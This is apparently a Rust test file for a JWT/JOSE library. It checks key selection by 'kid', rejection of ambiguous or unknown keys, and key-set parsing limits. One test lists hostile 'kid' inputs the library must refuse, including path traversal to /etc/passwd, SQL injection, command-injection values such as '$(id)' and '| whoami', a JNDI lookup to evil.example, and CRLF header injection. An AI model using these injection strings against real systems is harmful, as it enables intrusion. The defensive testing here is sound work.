//! Names of keys, and choosing a key by them.

use crate::pen::{Pen, b64, pen};
use doorward_jose::algorithm::Algorithm;
use doorward_jose::bad::{BadKey, BadToken};
use doorward_jose::claims::Claims;
use doorward_jose::jws::Presented;
use doorward_jose::key_set::KeySet;
use serde_json::{Value, json};

const CLAIMS: &str = r#"{"sub":"usr"}"#;

fn set_of(keys: &[Value]) -> KeySet {
    KeySet::parse(&json!({ "keys": keys })).expect("a key set")
}

fn read(token: &str, set: &KeySet) -> Result<Claims, BadToken> {
    let presented = Presented::read(token)?;
    presented.verify(set.find_for(presented.header())?)
}

fn jwk_named(pen: &Pen, kid: &str) -> Value {
    let mut jwk = pen.key.public_jwk();
    jwk["kid"] = json!(kid);
    jwk
}

#[test]
fn gauntlet_b5_05_a_kid_names_a_known_key_or_none() {
    let pen = pen(Algorithm::Es256);
    let set = set_of(&[pen.key.public_jwk()]);
    let with = |kid: &Value| pen.write(json!({"alg": "ES256", "kid": kid}).to_string(), CLAIMS);
    assert_eq!(read(&with(&json!(pen.key.id().as_str())), &set).err(), None);
    let unknown = [
        "",
        " ",
        "../../../../dev/null",
        "/etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "https://evil.example/keys",
        "' OR '1'='1",
        "x' UNION ALL VALUES ('secret') --",
        "$(id)",
        "| whoami",
        "${jndi:ldap://evil.example/a}",
        "%s%s%n",
        "key_",
        "*",
        "\u{202e}yek",
    ];
    for kid in unknown {
        assert_eq!(read(&with(&json!(kid)), &set).err(), Some(BadToken::UnknownKey), "{kid}");
    }
    let upper = pen.key.id().as_str().to_uppercase();
    assert_eq!(read(&with(&json!(upper)), &set).err(), Some(BadToken::UnknownKey));

    let refused = [
        json!("key\0"),
        json!("\0"),
        json!("a\nb"),
        json!("a\r\nSet-Cookie: x"),
        json!("\u{1b}[31m"),
        json!("\u{85}"),
        json!("k".repeat(257)),
        json!("k".repeat(5000)),
        json!("\u{20ac}".repeat(86)),
        json!(1),
        json!(null),
        json!(["a"]),
        json!({"a": 1}),
        json!(true),
    ];
    for kid in refused {
        assert_eq!(read(&with(&kid), &set).err(), Some(BadToken::Name("kid")), "{kid}");
        let typ = pen.write(json!({"alg": "ES256", "typ": kid}).to_string(), CLAIMS);
        assert_eq!(read(&typ, &set).err(), Some(BadToken::Name("typ")), "{kid}");
        let mut jwk = pen.key.public_jwk();
        jwk["kid"] = kid.clone();
        assert!(set_of(&[jwk]).keys().is_empty(), "{kid}");
    }
    assert_eq!(read(&with(&json!("k".repeat(256))), &set).err(), Some(BadToken::UnknownKey));
    assert_eq!(read(&with(&json!("k".repeat(1 << 20))), &set).err(), Some(BadToken::TooLong));
}

#[test]
fn a_key_is_chosen_only_when_one_fits() {
    let (es, rs) = (pen(Algorithm::Es256), pen(Algorithm::Rs256));
    let other = Pen::new(Algorithm::Es256);
    let nameless = |algorithm: Algorithm| pen(algorithm).claims(CLAIMS);
    let named =
        |pen: &Pen, kid: &str| pen.write(format!(r#"{{"alg":"{}","kid":"{kid}"}}"#, pen.key.algorithm()), CLAIMS);

    let two = set_of(&[jwk_named(es, "a"), jwk_named(&other, "b"), jwk_named(rs, "r")]);
    assert_eq!(read(&named(es, "a"), &two).err(), None);
    assert_eq!(read(&named(&other, "b"), &two).err(), None);
    assert_eq!(read(&named(es, "b"), &two).err(), Some(BadToken::Signature));
    assert_eq!(read(&named(es, "c"), &two).err(), Some(BadToken::UnknownKey));
    assert_eq!(read(&named(es, "r"), &two).err(), Some(BadToken::UnknownKey));
    assert_eq!(read(&nameless(Algorithm::Es256), &two).err(), Some(BadToken::AmbiguousKey));
    assert_eq!(read(&nameless(Algorithm::Rs256), &two).err(), None);
    assert_eq!(read(&nameless(Algorithm::EdDsa), &two).err(), Some(BadToken::UnknownKey));

    let doubled = set_of(&[jwk_named(es, "a"), jwk_named(&other, "a"), jwk_named(rs, "a")]);
    assert_eq!(read(&named(es, "a"), &doubled).err(), Some(BadToken::AmbiguousKey));
    assert_eq!(read(&named(&other, "a"), &doubled).err(), Some(BadToken::AmbiguousKey));
    // The same name on a key of another type is no choice: the algorithm leaves one.
    assert_eq!(read(&named(rs, "a"), &doubled).err(), None);

    let mut bare = es.key.public_jwk();
    bare.as_object_mut().expect("members").remove("kid");
    assert_eq!(read(&named(es, "a"), &set_of(&[bare.clone()])).err(), Some(BadToken::UnknownKey));
    assert_eq!(read(&nameless(Algorithm::Es256), &set_of(&[bare])).err(), None);

    let token = format!("{}.{}.{}", b64(r#"{"alg":"HS256","kid":"a"}"#), b64(CLAIMS), b64([0; 32]));
    assert_eq!(read(&token, &two).err(), Some(BadToken::Algorithm));
}

#[test]
fn a_key_set_skips_what_it_does_not_understand_and_ends_at_its_limit() {
    let good = pen(Algorithm::Es256).key.public_jwk();
    let mut encrypting = good.clone();
    encrypting["use"] = json!("enc");
    let mut private = good.clone();
    private["d"] = json!("AA");
    let p384 = json!({"kty": "EC", "crv": "P-384", "x": "AA", "y": "AA"});
    let strange = [json!(null), json!({}), json!({"kty": "AKP", "alg": "ML-DSA-44"}), json!({"kty": "oct", "k": "AA"})];
    let keys = [strange.as_slice(), &[p384, encrypting, private, good.clone()]].concat();
    assert_eq!(set_of(&keys).keys().len(), 1);

    assert_eq!(set_of(&vec![good.clone(); 64]).keys().len(), 64);
    let refused = |set: Value| KeySet::parse(&set).err();
    assert_eq!(refused(json!({ "keys": vec![good.clone(); 65] })), Some(BadKey::TooManyKeys));
    assert_eq!(refused(json!({ "keys": vec![Value::Null; 65] })), Some(BadKey::TooManyKeys));
    for other in [json!(null), json!([good]), json!({}), json!({"keys": good}), json!({"keys": null}), json!("keys")] {
        assert_eq!(refused(other.clone()), Some(BadKey::NotASet), "{other}");
    }
    assert!(set_of(&[]).keys().is_empty());
}
